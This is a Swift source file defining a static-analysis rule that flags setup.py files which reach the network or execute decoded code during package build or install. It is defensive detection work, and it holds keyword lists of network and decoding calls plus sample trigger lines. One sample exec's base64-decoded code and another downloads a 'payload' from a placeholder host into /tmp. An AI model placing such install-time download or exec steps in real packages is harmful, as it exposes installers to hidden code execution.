import BulwarkCore
import BulwarkFormats
import Foundation

/// setup.py files that reach the network or evaluate code when the package is built or installed.
struct SetupPyBuildExecRule: Rule {
    typealias Model = DependencyModel
    static let rule = RuleDescription(
        id: "dep-setup-py-build-exec", name: "setup.py downloads or executes code at build time", family: "dependencies",
        summary: "setup.py downloads files or evaluates decoded code while the package is built or installed.",
        rationale: rationale(
            detects: "In `setup.py`: network access (`urllib.request`, `urlopen`, `urlretrieve`, `requests.get/post`, `http.client`, `socket.connect`, `curl`/`wget` in shell commands), evaluation of dynamic or encoded code (`exec(`/`eval(` with `base64`, `codecs.decode`, `zlib.decompress`, `marshal.loads`, `compile(`), and shell commands that pipe a download into an interpreter. Ordinary `subprocess` calls (such as asking git for the version) are not reported.",
            matters: "`pip install` of a source distribution runs setup.py with the installing user's privileges. Malicious PyPI packages (the 2017 typosquats, many later campaigns) put their payload exactly there: it runs before anyone imports the package and even when the install then fails.",
            fix: "Remove network access and dynamic evaluation from setup.py: ship data in the sdist, declare build dependencies in `pyproject.toml` `[build-system]`, and prefer wheels.",
            references: ["[PEP 517: build backends](https://peps.python.org/pep-0517/)",
                         "[CWE-506: Embedded Malicious Code](https://cwe.mitre.org/data/definitions/506.html)"]),
        defaultSeverity: .high, defaultConfidence: .medium,
        remediation: "Remove network access and code evaluation from setup.py; ship data in the sdist.",
        examples: [
            Example(.triggers, path: "setup.py", """
            import base64
            from setuptools import setup
            exec(base64.b64decode("cHJpbnQoJ2hpJyk=")) # <-
            setup(name="helper", version="1.0")
            """, commentPrefix: "#"),
            Example(.triggers, path: "setup.py", """
            import urllib.request
            from setuptools import setup
            urllib.request.urlretrieve("https://x.example/payload", "/tmp/p") # <-
            setup(name="helper")
            """, commentPrefix: "#"),
            Example(.clean, path: "setup.py", """
            import subprocess
            from setuptools import setup
            version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
            setup(name="helper", version=version)
            """),
        ])
    var description: RuleDescription { Self.rule }

    static let network = ["urllib.request", "urlopen(", "urlretrieve(", "requests.get(", "requests.post(", "http.client", "httpx.get(",
                          "socket.socket(", ".connect((", "curl ", "wget ", "invoke-webrequest", "pip install", "pip.main("]
    static let dynamic = ["base64", "b64decode", "codecs.decode", "zlib.decompress", "marshal.loads", "compile(", "bytes.fromhex", "\\x"]

    /// Shell commands named in text: a network step only when a shell runs them.
    static let shellWords: Set<String> = ["curl ", "wget ", "invoke-webrequest", "pip install"]
    /// Calls whose string arguments are read by people: exceptions, prints, warnings, log lines.
    static let messageCalls = ["print", "warn", "warning", "info", "debug", "error", "exception", "critical", "log", "exit"]

    /// Whether the first shell word on `line` sits inside a string literal that is an argument of a
    /// message call (`raise ImportError(`, `print(`, `warnings.warn(`, `logger.error(`), found by
    /// walking the text from up to four lines back to the word (quotes and comments respected).
    static func inMessageText(before: String, line: String) -> Bool {
        let low = line.lowercased()
        guard let r = shellWords.compactMap({ low.range(of: $0) }).min(by: { $0.lowerBound < $1.lowerBound }) else { return false }
        let upTo = before + line.prefix(low.distance(from: low.startIndex, to: r.lowerBound))
        let (inString, call) = enclosingCall(upTo)
        guard inString, let name = call else { return false }
        return isMessageCall(name)
    }

    /// At the end of `text`: whether a string literal is open, and the name before the innermost
    /// parenthesis still open.
    static func enclosingCall(_ text: String) -> (Bool, String?) {
        var stack: [String.Index] = []
        var quote: Character?
        var i = text.startIndex
        while i < text.endIndex {
            let c = text[i]
            if let q = quote {
                if c == "\\" {
                    i = text.index(after: i)
                    if i < text.endIndex { i = text.index(after: i) }
                    continue
                }
                // A string ends at its closing quote, or (a plain one-line literal) at the line's end.
                if c == q || c == "\n" { quote = nil }
            } else if c == "\"" || c == "'" {
                quote = c
            } else if c == "#" {
                while i < text.endIndex, text[i] != "\n" { i = text.index(after: i) }
                continue
            } else if c == "(" {
                stack.append(i)
            } else if c == ")" {
                _ = stack.popLast()
            }
            i = text.index(after: i)
        }
        guard let open = stack.last else { return (quote != nil, nil) }
        let name = text[..<open].reversed().prefix { $0.isLetter || $0.isNumber || $0 == "_" || $0 == "." }
        return (quote != nil, name.isEmpty ? nil : String(name.reversed()))
    }

    static func isMessageCall(_ name: String) -> Bool {
        let last = (name.split(separator: ".").last.map(String.init) ?? name).lowercased()
        return messageCalls.contains(last) || last.hasSuffix("error") || last.hasSuffix("exception") || last.hasSuffix("warning")
    }

    func check(_ model: DependencyModel, context: RuleContext) -> [Finding] {
        guard model.kind == .setupPy, let text = model.file.text else { return [] }
        var out: [Finding] = []
        // `\r\n` is one Character in Swift: split on both endings so a Windows-edited file has lines.
        let lines = text.split(omittingEmptySubsequences: false) { $0 == "\n" || $0 == "\r\n" }
        let whole = text.lowercased()
        let decodes = Self.dynamic.contains { whole.contains($0) }
        for (i, raw) in lines.enumerated() {
            let l = raw.trimmingCharacters(in: .whitespaces)
            if l.hasPrefix("#") { continue }
            let low = l.lowercased()
            if low.hasPrefix("import ") || low.hasPrefix("from ") { continue }
            var reason: String?
            if Self.network.contains(where: low.contains) {
                // "Install with: pip install extra-deps" in an ImportError is advice to a person.
                let before = lines[max(0, i - 4)..<i].joined(separator: "\n") + "\n"
                if !Self.network.contains(where: { low.contains($0) && !Self.shellWords.contains($0) }),
                   Self.inMessageText(before: before, line: l) { continue }
                reason = "reaches the network"
            }
            else if (low.contains("exec(") || low.contains("eval(")) && (decodes || low.contains("compile(")) { reason = "evaluates decoded or generated code" }
            guard let r = reason else { continue }
            out.append(Finding(rule: Self.rule, message: "setup.py \(r) at build/install time: `\(l.prefix(140))`.",
                               location: context.location(line: i + 1), anchor: l))
        }
        return out
    }
}
